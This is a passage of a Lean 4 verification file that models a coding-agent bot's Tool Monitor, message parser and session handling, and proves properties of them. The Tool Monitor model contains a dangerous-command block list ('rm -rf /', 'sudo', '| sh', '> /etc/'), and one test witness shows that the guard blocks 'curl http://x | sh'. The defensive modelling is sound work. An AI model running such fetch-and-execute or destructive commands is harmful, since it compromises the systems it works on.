import Mathlib

/-!
Verification of the process-management core of the multicode-ai-bot
repository: the Tool Monitor, the Protocol Parser / Process Runner result
aggregation, the Integration Facade session flow, and the SQLite session
storage.  The implementation modules themselves are not present in the
source tree (only their unit tests are), so every operation below is
modelled from the natural-language specification, with the unit tests
under `tests/unit` fixing the concrete behaviour wherever they speak.
All definitions are executable; machine arithmetic plays no role in the
claims considered, costs are modelled as exact rationals and timestamps
as integers.
-/

set_option autoImplicit false

namespace MulticodeBot

/-! ## String helpers

Case-insensitive substring matching, used by the dangerous-command check
of the Tool Monitor.  `charsStart pat s` decides whether `pat` is an
initial segment of `s`; `charsSub pat s` decides whether `pat` occurs
contiguously anywhere inside `s`. -/

def charsStart : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs => a == b && charsStart as bs

def charsSub (pat : List Char) : List Char → Bool
  | [] => pat.isEmpty
  | b :: bs => charsStart pat (b :: bs) || charsSub pat bs

/-- Boolean test that `pat` occurs as a contiguous substring of `s`. -/
def strHasSub (s pat : String) : Bool :=
  charsSub pat.data s.data

/-- ASCII lower-casing of one character (identity outside `A`–`Z`). -/
def lowerChar (c : Char) : Char :=
  if 'A' ≤ c && c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

/-- ASCII lower-cased character list of a string. -/
def lowerChars (s : String) : List Char :=
  s.data.map lowerChar

/-! ## Tool Monitor -/

/-- Modelled from the spec: one entry of the Tool Monitor's append-only
violation log, `{type, tool_name, user_id, detail, severity}` (the free-form
`detail` text is omitted; no claim mentions it). -/
structure SecurityViolation where
  type : String
  tool_name : String
  user_id : Nat
  severity : String
deriving Repr, DecidableEq

/-- Modelled from the spec: the Tool Monitor's configuration and mutable
state — an optional explicit allow-list, an optional explicit deny-list,
the per-tool usage counters and the append-only violation log.  The
optional path-security checker is modelled as not configured; no claim
depends on it. -/
structure ToolMonitor where
  allowed_tools : Option (List String)
  disallowed_tools : Option (List String)
  tool_usage : List (String × Nat)
  security_violations : List SecurityViolation
deriving Repr, DecidableEq

/-- Tool input, modelled as an association list from parameter names to
string values (the only parameters the monitor inspects are `path`,
`file_path` and `command`). -/
def ToolInput : Type := List (String × String)

/-- Modelled from the spec: the fixed set of dangerous command patterns —
destructive deletion, privilege escalation, remote-script execution piped
into an interpreter, output redirection to sensitive system paths, and
generic command chaining/piping.  Matched as substrings of the lowercased
command. -/
def dangerous_command_substrings : List String :=
  ["rm -rf /", "sudo", "| sh", "| bash", "> /etc/", "|", ";", "&&"]

/-- Case-insensitive dangerous-command test: some dangerous pattern occurs
in the lowercased command string. -/
def is_dangerous_command (cmd : String) : Bool :=
  dangerous_command_substrings.any (fun pat => charsSub pat.data (lowerChars cmd))

/-- Modelled from the spec: the read/write/edit class of file-affecting
tools, which require a path parameter. -/
def file_tools : List String := ["Read", "Write", "Edit"]

/-- True when an explicit deny-list is configured and contains the tool. -/
def deny_hit (m : ToolMonitor) (tool : String) : Bool :=
  (m.disallowed_tools.getD []).contains tool

/-- True when an explicit allow-list is configured and the tool is absent
from it. -/
def allow_miss (m : ToolMonitor) (tool : String) : Bool :=
  match m.allowed_tools with
  | some allow => !(allow.contains tool)
  | none => false

/-- Append one violation record to the monitor's log. -/
def record_violation (m : ToolMonitor) (vtype tool : String) (uid : Nat)
    (sev : String) : ToolMonitor :=
  { m with security_violations :=
      m.security_violations ++ [⟨vtype, tool, uid, sev⟩] }

/-- Increment the usage counter of one tool in an association list of
counters, inserting it with count 1 when absent. -/
def bump_usage : List (String × Nat) → String → List (String × Nat)
  | [], t => [(t, 1)]
  | (k, n) :: rest, t =>
    if k == t then (k, n + 1) :: rest else (k, n) :: bump_usage rest t

/-- Record a successful (allowed) call against the per-tool usage counter. -/
def mark_allowed (m : ToolMonitor) (tool : String) : ToolMonitor :=
  { m with tool_usage := bump_usage m.tool_usage tool }

/-- Usage counter of one tool (0 when the tool was never counted). -/
def usage_count (u : List (String × Nat)) (tool : String) : Nat :=
  (List.lookup tool u).getD 0

/-- Modelled from the spec: `ToolMonitor.validate_tool_call`.  Precedence:
an explicit deny-list hit denies with reason "Tool explicitly disallowed";
next an allow-list miss denies with reason "Tool not allowed"; then
file-affecting tools require a `path` or `file_path` input parameter and
shell commands are screened against the dangerous patterns.  Every denial
appends exactly one violation record; an allowed call increments the
per-tool usage counter (the unit tests fix that only allowed calls are
counted).  Returns the `(allowed, reason)` pair together with the updated
monitor state. -/
def validate_tool_call (m : ToolMonitor) (tool : String) (input : ToolInput)
    (uid : Nat) : (Bool × Option String) × ToolMonitor :=
  if deny_hit m tool then
    ((false, some ("Tool explicitly disallowed: " ++ tool)),
      record_violation m "explicitly_disallowed_tool" tool uid "high")
  else if allow_miss m tool then
    ((false, some ("Tool not allowed: " ++ tool)),
      record_violation m "disallowed_tool" tool uid "medium")
  else if file_tools.contains tool then
    match List.lookup "path" input, List.lookup "file_path" input with
    | none, none =>
      ((false, some "File path required"),
        record_violation m "missing_file_path" tool uid "medium")
    | _, _ => ((true, none), mark_allowed m tool)
  else if tool == "Bash" then
    match List.lookup "command" input with
    | some cmd =>
      if is_dangerous_command cmd then
        ((false, some "Dangerous command pattern detected"),
          record_violation m "dangerous_command" tool uid "high")
      else ((true, none), mark_allowed m tool)
    | none => ((true, none), mark_allowed m tool)
  else ((true, none), mark_allowed m tool)

/-- Modelled from the spec: the pure allow/deny precedence check
(`is_tool_allowed`) — deny-list membership wins over allow-list
membership. -/
def is_tool_allowed (m : ToolMonitor) (tool : String) : Bool :=
  if deny_hit m tool then false
  else if allow_miss m tool then false
  else true

/-- Aggregated tool statistics, as reported by `get_tool_stats`. -/
structure ToolStats where
  total_calls : Nat
  by_tool : List (String × Nat)
  unique_tools : Nat
  security_violations : Nat
deriving Repr, DecidableEq

/-- Modelled from the spec: `get_tool_stats` — total calls, calls by tool
name, unique tool count and violation count. -/
def get_tool_stats (m : ToolMonitor) : ToolStats :=
  { total_calls := (m.tool_usage.map Prod.snd).sum
    by_tool := m.tool_usage
    unique_tools := m.tool_usage.length
    security_violations := m.security_violations.length }

/-- Modelled from the spec: `get_security_violations` returns the
append-only violation log. -/
def get_security_violations (m : ToolMonitor) : List SecurityViolation :=
  m.security_violations

/-- Sample monitor configuration of the unit tests: allow-list
`[Read, Write, Edit, Bash]`, no deny-list, fresh counters. -/
def monitorAllowed : ToolMonitor :=
  { allowed_tools := some ["Read", "Write", "Edit", "Bash"]
    disallowed_tools := none
    tool_usage := []
    security_violations := [] }

/-- Sample monitor configuration of the unit tests: allow-list
`[Read, Write, Edit, Bash, Grep]` together with deny-list `[Write, Edit]`. -/
def monitorDenied : ToolMonitor :=
  { allowed_tools := some ["Read", "Write", "Edit", "Bash", "Grep"]
    disallowed_tools := some ["Write", "Edit"]
    tool_usage := []
    security_violations := [] }

/-- C1: a tool on the configured explicit deny-list is always denied with
the "explicitly disallowed" reason and exactly one recorded violation,
for every monitor state — in particular also when the tool is on the
allow-list — and `is_tool_allowed` likewise rejects it, so deny-list
membership takes precedence over allow-list membership. -/
theorem c1_deny_list_precedence (m : ToolMonitor) (tool : String)
    (input : ToolInput) (uid : Nat) (deny : List String)
    (hconf : m.disallowed_tools = some deny) (hmem : tool ∈ deny) :
    (validate_tool_call m tool input uid).1.1 = false
    ∧ (validate_tool_call m tool input uid).1.2
        = some ("Tool explicitly disallowed: " ++ tool)
    ∧ (validate_tool_call m tool input uid).2.security_violations
        = m.security_violations ++ [⟨"explicitly_disallowed_tool", tool, uid, "high"⟩]
    ∧ is_tool_allowed m tool = false := by
  have hhit : deny_hit m tool = true := by
    simp [deny_hit, hconf, hmem]
  refine ⟨?_, ?_, ?_, ?_⟩ <;>
    simp [validate_tool_call, is_tool_allowed, hhit, record_violation]

/-- C1 witness: the unit-test configuration with `Write` on both the
allow-list and the deny-list — the call is denied as explicitly
disallowed, with one recorded violation. -/
theorem c1_deny_list_precedence_witness :
    (validate_tool_call monitorDenied "Write" [("path", "test.py")] 123).1.1 = false
    ∧ (validate_tool_call monitorDenied "Write" [("path", "test.py")] 123).1.2
        = some ("Tool explicitly disallowed: " ++ "Write")
    ∧ (validate_tool_call monitorDenied "Write" [("path", "test.py")] 123).2.security_violations
        = monitorDenied.security_violations
          ++ [⟨"explicitly_disallowed_tool", "Write", 123, "high"⟩]
    ∧ is_tool_allowed monitorDenied "Write" = false :=
  c1_deny_list_precedence monitorDenied "Write" [("path", "test.py")] 123
    ["Write", "Edit"] rfl (by decide)

/-- C2: a shell call whose command matches a dangerous pattern
(case-insensitively) is denied with reason "Dangerous command pattern
detected" and exactly one violation of type `dangerous_command` is
appended, for every monitor configuration that lets the `Bash` tool
itself through the allow/deny lists. -/
theorem c2_dangerous_command_denied (m : ToolMonitor) (input : ToolInput)
    (uid : Nat) (cmd : String)
    (hdeny : deny_hit m "Bash" = false)
    (hallow : allow_miss m "Bash" = false)
    (hcmd : List.lookup "command" input = some cmd)
    (hdang : is_dangerous_command cmd = true) :
    (validate_tool_call m "Bash" input uid).1.1 = false
    ∧ (validate_tool_call m "Bash" input uid).1.2
        = some "Dangerous command pattern detected"
    ∧ (validate_tool_call m "Bash" input uid).2.security_violations
        = m.security_violations ++ [⟨"dangerous_command", "Bash", uid, "high"⟩] := by
  refine ⟨?_, ?_, ?_⟩ <;>
    simp [validate_tool_call, hdeny, hallow, hcmd, hdang, file_tools,
      record_violation]

/-- C2 witness: the spec scenario — tool `Bash` with command
`curl http://x | sh` against the unit-test allow-list configuration is
denied as a dangerous command with one `dangerous_command` violation. -/
theorem c2_dangerous_command_denied_witness :
    (validate_tool_call monitorAllowed "Bash" [("command", "curl http://x | sh")] 123).1.1 = false
    ∧ (validate_tool_call monitorAllowed "Bash" [("command", "curl http://x | sh")] 123).1.2
        = some "Dangerous command pattern detected"
    ∧ (validate_tool_call monitorAllowed "Bash" [("command", "curl http://x | sh")] 123).2.security_violations
        = monitorAllowed.security_violations
          ++ [⟨"dangerous_command", "Bash", 123, "high"⟩] :=
  c2_dangerous_command_denied monitorAllowed [("command", "curl http://x | sh")]
    123 "curl http://x | sh" rfl rfl rfl (by decide)

/-- C3 counterexample: against the unit-test allow-list configuration,
the denied call for tool `NotAllowed` does not increment that tool's
usage counter, and after one denied and one allowed call `total_calls`
is 1, not 2 — validated-but-denied calls are not counted, contrary to
the claim. -/
theorem c3_counterexample :
    (validate_tool_call monitorAllowed "NotAllowed" [] 123).1.1 = false
    ∧ usage_count
        (validate_tool_call monitorAllowed "NotAllowed" [] 123).2.tool_usage
        "NotAllowed" = 0
    ∧ (get_tool_stats
        (validate_tool_call
          (validate_tool_call monitorAllowed "NotAllowed" [] 123).2
          "Read" [("path", "test.py")] 123).2).total_calls = 1 := by
  decide

/-- C3 as amended: every validated call updates the usage counters
exactly when it is allowed (denied calls leave them unchanged, so
`total_calls` counts only allowed calls), and every denial appends
exactly one violation record while an allowed call appends none. -/
theorem c3_usage_counting_amended (m : ToolMonitor) (tool : String)
    (input : ToolInput) (uid : Nat) :
    (validate_tool_call m tool input uid).2.tool_usage
      = (if (validate_tool_call m tool input uid).1.1 then
           bump_usage m.tool_usage tool
         else m.tool_usage)
    ∧ (validate_tool_call m tool input uid).2.security_violations.length
      = m.security_violations.length
        + (if (validate_tool_call m tool input uid).1.1 then 0 else 1) := by
  unfold validate_tool_call
  split
  · constructor <;> simp [record_violation, mark_allowed]
  · split
    · constructor <;> simp [record_violation, mark_allowed]
    · split
      · split <;> constructor <;> simp [record_violation, mark_allowed]
      · split
        · split
          · split <;> constructor <;> simp [record_violation, mark_allowed]
          · constructor <;> simp [record_violation, mark_allowed]
        · constructor <;> simp [record_violation, mark_allowed]

/-! ## Protocol Parser and result aggregation -/

/-- One content block of a decoded assistant/user message: a text segment,
a tool-invocation segment, or an unrecognized block kind. -/
inductive ContentBlock where
  | text (s : String)
  | tool_use (name : String) (input : List (String × String)) (id : String)
  | other (tag : String)
deriving Repr, DecidableEq

/-- The `message.content` payload: either a plain string (user messages)
or a list of content blocks. -/
inductive MessageContent where
  | str (s : String)
  | blocks (bs : List ContentBlock)
deriving Repr, DecidableEq

/-- The nested `result` payload of a `tool_result` message. -/
structure ToolResultPayload where
  content : String
  is_error : Bool
deriving Repr, DecidableEq

/-- Modelled from the spec: one decoded line of the wire format, a flat
record with an optional `type` discriminator and the per-type fields used
by the parser.  The JSON `message` field is a string for
system/error/progress records and an object for assistant/user records;
the string form is modelled as the separate field `text_message`. -/
structure RawMsg where
  type : Option String := none
  message : Option MessageContent := none
  result : Option ToolResultPayload := none
  tool_use_id : Option String := none
  subtype : Option String := none
  tools : Option (List String) := none
  model : Option String := none
  text_message : Option String := none
  code : Option String := none
  percentage : Option Int := none
  step : Option Int := none
  total_steps : Option Int := none
  timestamp : Option String := none
deriving Repr, DecidableEq

/-- Heterogeneous metadata value of a `StreamUpdate`. -/
inductive MetaVal where
  | s (v : String)
  | b (v : Bool)
  | n (v : Int)
  | strs (v : List String)
deriving Repr, DecidableEq

/-- One extracted tool invocation `{name, input, id}`. -/
structure ToolCall where
  name : String
  input : List (String × String)
  id : String
deriving Repr, DecidableEq

/-- Progress payload `{percentage, step, total_steps}`. -/
structure ProgressInfo where
  percentage : Option Int
  step : Option Int
  total_steps : Option Int
deriving Repr, DecidableEq

/-- Modelled from the spec: one parsed unit of agent output. -/
structure StreamUpdate where
  type : String
  content : Option String := none
  tool_calls : Option (List ToolCall) := none
  metadata : List (String × MetaVal) := []
  progress : Option ProgressInfo := none
  error_info : Option (List (String × MetaVal)) := none
  timestamp : Option String := none
deriving Repr, DecidableEq

/-- Content blocks of a message (empty when the message payload is absent
or a plain string). -/
def blocks_of (m : RawMsg) : List ContentBlock :=
  match m.message with
  | some (MessageContent.blocks bs) => bs
  | _ => []

/-- Text segments of a block list, in order of appearance. -/
def text_parts : List ContentBlock → List String
  | [] => []
  | ContentBlock.text s :: rest => s :: text_parts rest
  | _ :: rest => text_parts rest

/-- Tool-invocation segments of a block list, in order of appearance. -/
def tool_call_parts : List ContentBlock → List ToolCall
  | [] => []
  | ContentBlock.tool_use n i d :: rest => ⟨n, i, d⟩ :: tool_call_parts rest
  | _ :: rest => tool_call_parts rest

/-- Join text segments with newlines. -/
def join_lines : List String → String
  | [] => ""
  | [s] => s
  | s :: rest => s ++ "\n" ++ join_lines rest

/-- Modelled from the spec: parse an `assistant` record — text segments
joined by newline into `content`, tool-invocation segments extracted in
order into `tool_calls`. -/
def parse_assistant_message (m : RawMsg) : StreamUpdate :=
  { type := "assistant"
    content := some (join_lines (text_parts (blocks_of m)))
    tool_calls := some (tool_call_parts (blocks_of m))
    timestamp := m.timestamp }

/-- Modelled from the spec: parse a `tool_result` record — the nested
result payload's content and error flag go to `content` and
`metadata.is_error`, and `error_info` is flagged when the result signals
failure. -/
def parse_tool_result_message (m : RawMsg) : StreamUpdate :=
  match m.result with
  | some r =>
    { type := "tool_result"
      content := some r.content
      metadata :=
        (match m.tool_use_id with
         | some tid => [("tool_use_id", MetaVal.s tid)]
         | none => []) ++ [("is_error", MetaVal.b r.is_error)]
      error_info :=
        if r.is_error then some [("message", MetaVal.s r.content)] else none }
  | none =>
    { type := "tool_result", metadata := [("is_error", MetaVal.b false)] }

/-- Modelled from the spec: parse a `user` record — a plain string or a
list of text segments normalized into one joined `content`. -/
def parse_user_message (m : RawMsg) : StreamUpdate :=
  { type := "user"
    content := some
      (match m.message with
       | some (MessageContent.str s) => s
       | some (MessageContent.blocks bs) => join_lines (text_parts bs)
       | none => "") }

/-- Modelled from the spec: parse a `system` record — the `init` subtype
captures model name and tool list into `metadata`; any other subtype
passes the free-form message through as `content`. -/
def parse_system_message (m : RawMsg) : StreamUpdate :=
  if m.subtype == some "init" then
    { type := "system"
      metadata := [("subtype", MetaVal.s "init")]
        ++ (match m.tools with
            | some ts => [("tools", MetaVal.strs ts)]
            | none => [])
        ++ (match m.model with
            | some md => [("model", MetaVal.s md)]
            | none => []) }
  else
    { type := "system"
      content := m.text_message
      metadata :=
        match m.subtype with
        | some st => [("subtype", MetaVal.s st)]
        | none => [] }

/-- Modelled from the spec: parse an `error` record — message and any
code mapped into `content` and `error_info`. -/
def parse_error_message (m : RawMsg) : StreamUpdate :=
  { type := "error"
    content := m.text_message
    error_info := some
      ((match m.text_message with
        | some t => [("message", MetaVal.s t)]
        | none => [])
       ++ (match m.code with
           | some c => [("code", MetaVal.s c)]
           | none => [])) }

/-- Modelled from the spec: parse a `progress` record — percentage, step
and total mapped into `progress` and the message into `content`. -/
def parse_progress_message (m : RawMsg) : StreamUpdate :=
  { type := "progress"
    content := m.text_message
    progress := some ⟨m.percentage, m.step, m.total_steps⟩ }

/-- The recognized stream message types; records carrying any other
discriminator (or none) are dropped. -/
def recognized_types : List String :=
  ["assistant", "tool_result", "user", "system", "error", "progress"]

/-- Modelled from the spec: the Protocol Parser dispatch
(`parse(raw_line) -> StreamUpdate | None`) — a pure total function of the
decoded record that dispatches on the `type` discriminator and drops any
record whose discriminator is missing or unrecognized. -/
def parse_stream_message (m : RawMsg) : Option StreamUpdate :=
  match m.type with
  | none => none
  | some t =>
    if t == "assistant" then some (parse_assistant_message m)
    else if t == "tool_result" then some (parse_tool_result_message m)
    else if t == "user" then some (parse_user_message m)
    else if t == "system" then some (parse_system_message m)
    else if t == "error" then some (parse_error_message m)
    else if t == "progress" then some (parse_progress_message m)
    else none

/-- One entry of `Response.tools_used`: tool name plus the timestamp of
the assistant message it appeared in. -/
structure ToolUsed where
  name : String
  timestamp : Option String
deriving Repr, DecidableEq

/-- The agent's final structured `result` record. -/
structure RawResult where
  result : String
  session_id : String
  cost_usd : Rat
  duration_ms : Nat
  num_turns : Nat
deriving Repr, DecidableEq

/-- Modelled from the spec: the terminal aggregate of one invocation. -/
structure ClaudeResponse where
  content : String
  session_id : String
  cost : Rat
  duration_ms : Nat
  num_turns : Nat
  is_error : Bool := false
  error_type : Option String := none
  tools_used : List ToolUsed := []
deriving Repr, DecidableEq

/-- Tool-call entries of one block list, each stamped with the enclosing
message's timestamp. -/
def tools_from_blocks (ts : Option String) : List ContentBlock → List ToolUsed
  | [] => []
  | ContentBlock.tool_use n _ _ :: rest => ⟨n, ts⟩ :: tools_from_blocks ts rest
  | _ :: rest => tools_from_blocks ts rest

/-- Scan the accumulated stream messages for tool-call entries: every
`assistant`-type message contributes its tool calls in order, every other
message contributes nothing. -/
def collect_tools_used : List RawMsg → List ToolUsed
  | [] => []
  | m :: rest =>
    (if m.type == some "assistant" then
       tools_from_blocks m.timestamp (blocks_of m)
     else []) ++ collect_tools_used rest

/-- Modelled from the spec: `_parse_result` — build the final `Response`
from the agent's `result` record, populating `tools_used` by scanning all
previously seen messages. -/
def parse_result (r : RawResult) (messages : List RawMsg) : ClaudeResponse :=
  { content := r.result
    session_id := r.session_id
    cost := r.cost_usd
    duration_ms := r.duration_ms
    num_turns := r.num_turns
    tools_used := collect_tools_used messages }

theorem collect_tools_used_append (a b : List RawMsg) :
    collect_tools_used (a ++ b)
      = collect_tools_used a ++ collect_tools_used b := by
  induction a with
  | nil => simp [collect_tools_used]
  | cons m rest ih => simp [collect_tools_used, ih]

theorem collect_tools_used_filter (msgs : List RawMsg) :
    collect_tools_used msgs
      = ((msgs.filter (fun x => x.type == some "assistant")).map
          (fun x => tools_from_blocks x.timestamp (blocks_of x))).flatten := by
  induction msgs with
  | nil => simp [collect_tools_used]
  | cons m rest ih =>
    by_cases h : m.type == some "assistant"
    · simp [collect_tools_used, List.filter_cons, h, ih]
    · simp only [Bool.not_eq_true] at h
      simp [collect_tools_used, List.filter_cons, h, ih]

/-- C5: the `tools_used` field of the `Response` built by `parse_result`
equals, in order, the concatenation of the tool-call entries (name plus
timestamp) of all `assistant`-type messages of the stream, and inserting
a message of any other type anywhere in the stream leaves `tools_used`
unchanged. -/
theorem c5_tools_used_aggregation (r : RawResult) (msgs pre post : List RawMsg)
    (m : RawMsg) (h : m.type ≠ some "assistant") :
    (parse_result r msgs).tools_used
      = ((msgs.filter (fun x => x.type == some "assistant")).map
          (fun x => tools_from_blocks x.timestamp (blocks_of x))).flatten
    ∧ (parse_result r (pre ++ m :: post)).tools_used
      = (parse_result r (pre ++ post)).tools_used := by
  constructor
  · exact collect_tools_used_filter msgs
  · have hm : (m.type == some "assistant") = false := by
      simp [h]
    show collect_tools_used (pre ++ m :: post)
      = collect_tools_used (pre ++ post)
    rw [collect_tools_used_append, collect_tools_used_append]
    simp [collect_tools_used, hm]

/-- Concrete stream of the unit test: one assistant message carrying a
`Read` tool call, preceded by an unknown-type record. -/
def msgAssistant : RawMsg :=
  { type := some "assistant"
    message := some (MessageContent.blocks
      [ContentBlock.tool_use "Read" [] "tool123"])
    timestamp := some "2024-01-01" }

/-- Unknown-type record of the unit test. -/
def msgUnknown : RawMsg := { type := some "unknown" }

/-- Result record of the unit test. -/
def rawResult0 : RawResult :=
  { result := "Task completed"
    session_id := "session123"
    cost_usd := 1 / 20
    duration_ms := 1500
    num_turns := 3 }

/-- C5 witness: on the unit-test stream, `tools_used` is exactly the one
`Read` entry of the assistant message, and a leading unknown-type record
contributes nothing. -/
theorem c5_tools_used_aggregation_witness :
    (parse_result rawResult0 [msgAssistant]).tools_used
      = (([msgAssistant].filter (fun x => x.type == some "assistant")).map
          (fun x => tools_from_blocks x.timestamp (blocks_of x))).flatten
    ∧ (parse_result rawResult0 ([] ++ msgUnknown :: [msgAssistant])).tools_used
      = (parse_result rawResult0 ([] ++ [msgAssistant])).tools_used :=
  c5_tools_used_aggregation rawResult0 [msgAssistant] [] [msgAssistant]
    msgUnknown (by decide)

/-- C6: the stream-message parser is a total deterministic function of
the decoded record — re-parsing yields an identical result, a missing or
unrecognized `type` discriminator yields `none` (dropped, not fatal), and
whenever it yields an update, the discriminator was recognized and the
update carries that type. -/
theorem c6_parse_total_deterministic (m : RawMsg) :
    parse_stream_message m = parse_stream_message m
    ∧ (m.type = none → parse_stream_message m = none)
    ∧ (∀ s, m.type = some s → s ∉ recognized_types →
        parse_stream_message m = none)
    ∧ (∀ u, parse_stream_message m = some u →
        ∃ s, m.type = some s ∧ s ∈ recognized_types ∧ u.type = s) := by
  refine ⟨rfl, ?_, ?_, ?_⟩
  · intro h
    simp [parse_stream_message, h]
  · intro s hs hmem
    simp only [recognized_types, List.mem_cons, List.not_mem_nil, or_false,
      not_or] at hmem
    obtain ⟨h1, h2, h3, h4, h5, h6⟩ := hmem
    simp [parse_stream_message, hs, h1, h2, h3, h4, h5, h6]
  · intro u hu
    match hty : m.type with
    | none => simp [parse_stream_message, hty] at hu
    | some t =>
      refine ⟨t, rfl, ?_⟩
      simp only [parse_stream_message, hty] at hu
      by_cases h1 : t = "assistant"
      · subst h1
        rw [if_pos (beq_self_eq_true _)] at hu
        cases hu
        exact ⟨by simp [recognized_types], rfl⟩
      · rw [if_neg (by simp [h1])] at hu
        by_cases h2 : t = "tool_result"
        · subst h2
          rw [if_pos (beq_self_eq_true _)] at hu
          cases hu
          constructor
          · simp [recognized_types]
          · cases hr : m.result <;>
              simp [parse_tool_result_message, hr]
        · rw [if_neg (by simp [h2])] at hu
          by_cases h3 : t = "user"
          · subst h3
            rw [if_pos (beq_self_eq_true _)] at hu
            cases hu
            exact ⟨by simp [recognized_types], rfl⟩
          · rw [if_neg (by simp [h3])] at hu
            by_cases h4 : t = "system"
            · subst h4
              rw [if_pos (beq_self_eq_true _)] at hu
              cases hu
              constructor
              · simp [recognized_types]
              · by_cases hi : m.subtype == some "init" <;>
                  simp [parse_system_message, hi]
            · rw [if_neg (by simp [h4])] at hu
              by_cases h5 : t = "error"
              · subst h5
                rw [if_pos (beq_self_eq_true _)] at hu
                cases hu
                exact ⟨by simp [recognized_types], rfl⟩
              · rw [if_neg (by simp [h5])] at hu
                by_cases h6 : t = "progress"
                · subst h6
                  rw [if_pos (beq_self_eq_true _)] at hu
                  cases hu
                  exact ⟨by simp [recognized_types], rfl⟩
                · rw [if_neg (by simp [h6])] at hu
                  cases hu

/-- C6 witness: the unit-test record with type `unknown` is dropped. -/
theorem c6_parse_total_deterministic_witness :
    parse_stream_message msgUnknown = none :=
  (c6_parse_total_deterministic msgUnknown).2.2.1 "unknown" rfl (by decide)

/-! ## Session Manager and Integration Facade -/

/-- Modelled from the spec: one continuable conversation with the agent.
`session_id` is agent-assigned once known; before the first successful
turn it is a locally generated placeholder and `is_new_session` marks the
session as provisional.  Timestamps are integers, cost is an exact
rational. -/
structure ClaudeSession where
  session_id : String
  user_id : Nat
  project_path : String
  created_at : Int
  last_used : Int
  total_cost : Rat := 0
  total_turns : Nat := 0
  message_count : Nat := 0
  tools_used : List String := []
  is_new_session : Bool := false
deriving Repr, DecidableEq

/-- The Session Manager's in-memory view: the user's active sessions. -/
structure SessionManagerState where
  sessions : List ClaudeSession
deriving Repr, DecidableEq

/-- Insert into a list sorted descending by an integer key (stable). -/
def insertDescBy {α : Type} (key : α → Int) (x : α) : List α → List α
  | [] => [x]
  | y :: ys => if key y < key x then x :: y :: ys else y :: insertDescBy key x ys

/-- Insertion sort, descending by an integer key. -/
def sortDescBy {α : Type} (key : α → Int) : List α → List α
  | [] => []
  | x :: xs => insertDescBy key x (sortDescBy key xs)

/-- Modelled from the spec: `_get_user_sessions` — the user's active
sessions, most recently used first. -/
def get_user_sessions_desc (st : SessionManagerState) (uid : Nat) :
    List ClaudeSession :=
  sortDescBy (fun s => s.last_used)
    (st.sessions.filter (fun s => s.user_id == uid))

/-- Local placeholder id of a provisional session, used until the agent
assigns its own id on the first turn. -/
def local_placeholder (uid : Nat) : String :=
  "temp_" ++ toString uid

/-- Fresh provisional session for a (user, directory) pair. -/
def new_provisional_session (uid : Nat) (dir : String) (now : Int) :
    ClaudeSession :=
  { session_id := local_placeholder uid
    user_id := uid
    project_path := dir
    created_at := now
    last_used := now
    is_new_session := true }

/-- Modelled from the spec: with no explicit session id, reuse the most
recently used active session whose `project_path` matches the directory,
otherwise create a provisional session. -/
def get_or_create_session (st : SessionManagerState) (uid : Nat)
    (dir : String) (now : Int) : ClaudeSession :=
  match (get_user_sessions_desc st uid).filter
      (fun s => s.project_path == dir) with
  | s :: _ => s
  | [] => new_provisional_session uid dir now

/-- Merge the tool names of one turn into the session's ordered list of
tools seen, keeping only newly seen names. -/
def add_new_tools (old : List String) : List String → List String
  | [] => old
  | n :: rest => add_new_tools (if old.contains n then old else old ++ [n]) rest

/-- Modelled from the spec: merge one turn's results into the session —
added cost, turns, one more message, newly seen tool names, refreshed
`last_used`; a provisional session additionally takes the agent-assigned
id from the `Response` in place of its placeholder. -/
def update_session_after (s : ClaudeSession) (resp : ClaudeResponse)
    (now : Int) : ClaudeSession :=
  { s with
    session_id := if s.is_new_session then resp.session_id else s.session_id
    last_used := now
    total_cost := s.total_cost + resp.cost
    total_turns := s.total_turns + resp.num_turns
    message_count := s.message_count + 1
    tools_used := add_new_tools s.tools_used (resp.tools_used.map ToolUsed.name)
    is_new_session := false }

/-- Store an updated session, replacing the entry previously keyed by
`oldId` or appending when none exists. -/
def put_session (st : SessionManagerState) (oldId : String)
    (s : ClaudeSession) : SessionManagerState :=
  if st.sessions.any (fun t => t.session_id == oldId) then
    ⟨st.sessions.map (fun t => if t.session_id == oldId then s else t)⟩
  else ⟨st.sessions ++ [s]⟩

/-- Finish one turn: the Process Runner's `Response` (modelled as the
input `agentResp`) is returned to the caller and the session is updated
and stored. -/
def complete_turn (st : SessionManagerState) (s : ClaudeSession)
    (agentResp : ClaudeResponse) (now : Int) :
    ClaudeResponse × SessionManagerState :=
  (agentResp, put_session st s.session_id (update_session_after s agentResp now))

/-- Modelled from the spec: `run_command` — resolve or create the
session, invoke the Process Runner (whose `Response` is the input
`agentResp`), then update the session with the turn's results; an
explicitly requested session id that cannot be found fails the call
(`none`) rather than silently creating a session. -/
def run_command (st : SessionManagerState) (uid : Nat) (dir : String)
    (session_id : Option String) (agentResp : ClaudeResponse) (now : Int) :
    Option (ClaudeResponse × SessionManagerState) :=
  match session_id with
  | some sid =>
    match st.sessions.find? (fun s => s.session_id == sid) with
    | none => none
    | some s => some (complete_turn st s agentResp now)
  | none =>
    some (complete_turn st (get_or_create_session st uid dir now) agentResp now)

/-- Modelled from the spec: the session considered for continuation — the
user's most recent active session, accepted only when it is scoped to the
given directory. -/
def find_continuable (st : SessionManagerState) (uid : Nat) (dir : String) :
    Option ClaudeSession :=
  match get_user_sessions_desc st uid with
  | [] => none
  | s :: _ => if s.project_path == dir then some s else none

/-- Modelled from the spec: `continue_session` — returns `none` (not an
error) when the user has no continuable session in the given directory;
otherwise runs the turn on the found session. -/
def continue_session (st : SessionManagerState) (uid : Nat) (dir : String)
    (agentResp : ClaudeResponse) (now : Int) :
    Option (ClaudeResponse × SessionManagerState) :=
  match find_continuable st uid dir with
  | none => none
  | some s => some (complete_turn st s agentResp now)

/-- C4: `continue_session` returns `none` when the user has no active
session, and also when the user's most recent active session is scoped to
a different directory — even though active sessions exist elsewhere; and
whenever it does continue, the continued session's `project_path` equals
the requested directory, so a session is never continued across
directories. -/
theorem c4_continue_session_directory_scoped (st : SessionManagerState)
    (uid : Nat) (dir : String) (resp : ClaudeResponse) (now : Int) :
    (get_user_sessions_desc st uid = [] →
      continue_session st uid dir resp now = none)
    ∧ (∀ s rest, get_user_sessions_desc st uid = s :: rest →
        s.project_path ≠ dir → continue_session st uid dir resp now = none)
    ∧ (∀ out, continue_session st uid dir resp now = some out →
        ∃ s, find_continuable st uid dir = some s ∧ s.project_path = dir) := by
  refine ⟨?_, ?_, ?_⟩
  · intro h
    simp [continue_session, find_continuable, h]
  · intro s rest h hne
    simp [continue_session, find_continuable, h, hne]
  · intro out hout
    simp only [continue_session] at hout
    match hf : find_continuable st uid dir with
